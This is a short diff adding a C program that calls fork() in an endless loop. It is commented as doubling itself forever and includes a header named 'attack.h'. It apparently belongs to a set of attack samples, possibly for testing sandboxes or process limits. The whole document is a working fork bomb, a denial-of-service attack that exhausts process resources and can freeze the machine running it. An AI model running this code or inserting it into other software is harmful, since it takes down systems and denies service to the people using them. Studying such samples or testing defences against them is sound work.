@@ -1,0 +1,8 @@
+/* Doubles itself for ever. */
+#include "attack.h"
+
+int main(void)
+{
+	for (;;)
+		fork();
+}
